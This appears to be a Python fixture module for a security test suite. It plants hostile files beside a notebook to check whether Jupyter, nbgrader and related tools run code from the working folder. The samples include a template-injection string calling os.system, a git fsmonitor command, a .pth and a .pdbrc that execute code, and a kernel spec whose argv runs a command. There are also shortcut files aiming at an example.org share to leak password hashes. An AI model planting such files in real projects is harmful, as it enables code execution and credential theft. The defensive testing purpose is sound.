"""Files beside a notebook that some program would take for its settings, its code or its templates."""

from collections.abc import Mapping
from pathlib import Path

from .files import IMPORTED
from .model import Hostile, beside

KERNEL = '{"argv": ["touch", "forged"], "display_name": "Python 3", "language": "python"}'
TEMPLATE = "{{ cycler.__init__.__globals__.os.system('touch forged') }}"
GIT = "[core]\n\tfsmonitor = touch forged\n\tbare = false\n"
JSON = '{"Exporter": {"preprocessors": ["forged.Now"]}, "ServerApp": {"jpserver_extensions": {"forged": true}}}'
SHORTCUT = "[InternetShortcut]\nURL=file://example.org/share\nIconFile=\\\\example.org\\share\\x.ico\n"
Files = Mapping[str, str]


def put(name: str, source: str, files: Files) -> Hostile:
    """An honest notebook, and files beside it that touch a witness if anything loads them."""

    def write(folder: Path) -> None:
        for path, content in files.items():
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_text(content, encoding="utf-8")

    return beside(f"settings: {name}", "forge", write, source=source)


JUPYTER = "CVE-2022-39286 (Jupyter loads settings from the working folder)"
IPYTHON = "CVE-2022-21699 (IPython loads profiles from the working folder)"
PYTHON = "Python's documentation, module site"
NBCONVERT = "nbconvert's documentation: templates are looked for in the working folder"
SUBMISSIONS: tuple[Hostile, ...] = (
    put("Jupyter's", JUPYTER, {f"jupyter_{n}config.py": IMPORTED for n in ("", "server_", "nbconvert_", "lab_")}),
    put("Jupyter's as JSON", JUPYTER, {f"jupyter_{n}config.json": JSON for n in ("server_", "nbconvert_", "app_")}),
    put(
        "Jupyter's in folders",
        JUPYTER,
        {
            ".jupyter/jupyter_config.py": IMPORTED,
            "jupyter_server_config.d/a.json": JSON,
            "serverconfig/jupyter_server_config.json": JSON,
        },
    ),
    put("nbgrader's as JSON", JUPYTER, {"nbgrader_config.json": '{"CourseDirectory": {"db_url": "sqlite:///forged"}}'}),
    put("nbgrader's in other letters", JUPYTER, {"NBGRADER_CONFIG.PY": IMPORTED, "nbgrader\uff3fconfig.py": IMPORTED}),
    put("nbgrader's deeper", JUPYTER, {"data/more/nbgrader_config.py": IMPORTED}),
    put(
        "IPython's profile",
        IPYTHON,
        {
            "profile_default/ipython_config.py": IMPORTED,
            "ipython_config.py": IMPORTED,
            "profile_default/startup/00-a.py": IMPORTED,
        },
    ),
    put("IPython's home", IPYTHON, {".ipython/profile_default/startup/00-a.ipy": IMPORTED}),
    put(
        "kernel",
        "Jupyter's documentation: kernel specs",
        {"kernels/python3/kernel.json": KERNEL, "kernel.json": KERNEL},
    ),
    put(
        "page templates",
        NBCONVERT,
        {f"{n}/index.html.j2": TEMPLATE for n in ("feedback", "formgrade", "classic", "base")},
    ),
    put(
        "page templates' settings",
        NBCONVERT,
        {
            "conf.json": '{"base_template": "/"}',
            "templates/feedback/conf.json": "{}",
            "nbconvert/templates/feedback/index.html.j2": TEMPLATE,
        },
    ),
    put(
        "Python's path",
        PYTHON,
        {"forged.pth": "import pathlib; pathlib.Path('forged').touch()", "usercustomize.py": IMPORTED},
    ),
    put(
        "modules that nbgrader imports",
        "CWE-427 (search path)",
        {f"{n}.py": IMPORTED for n in ("nbgrader", "traitlets", "yaml")},
    ),
    put("a package without a file", "PEP 420 (namespace packages)", {"biggerpie/grading/__init__.py": IMPORTED}),
    put(
        "alembic's",
        "nbgrader's sources: the gradebook is opened with alembic",
        {"alembic.ini": "[alembic]\nscript_location = .\n", "env.py": IMPORTED, "versions/1.py": IMPORTED},
    ),
    put(
        "git's",
        "CVE-2022-24765 (git runs what a folder's settings name)",
        {".git/config": GIT, ".git/HEAD": "ref: refs/heads/x"},
    ),
    put(
        "editor's",
        "VS Code's documentation: workspace trust",
        {".vscode/settings.json": '{"python.defaultInterpreterPath": "./forged"}', ".vscode/tasks.json": "{}"},
    ),
    put(
        "project's",
        "pip's documentation: a local project is built",
        {"setup.py": IMPORTED, "pyproject.toml": "[build-system]"},
    ),
    put(
        "environment's",
        "python-dotenv's documentation",
        {".env": "PYTHONSTARTUP=forged.py\n", ".envrc": "touch forged\n"},
    ),
    put(
        "debugger's",
        "Python's documentation, module pdb: the file .pdbrc",
        {".pdbrc": "import os; os.system('touch forged')"},
    ),
    put(
        "programs by name",
        "CVE-2025-53000 (nbconvert runs inkscape.bat of the working folder)",
        {f"{n}": "touch forged\n" for n in ("inkscape.bat", "alembic.cmd", "git.bat", "pandoc.cmd")},
    ),
    put(
        "shortcuts",
        "CVE-2024-35178 (Jupyter on Windows gives a password's hash to a file share)",
        {
            "see.url": SHORTCUT,
            "desktop.ini": SHORTCUT,
            "a.scf": SHORTCUT,
            "autorun.inf": "[autorun]\nopen=forged.exe\n",
        },
    ),
)
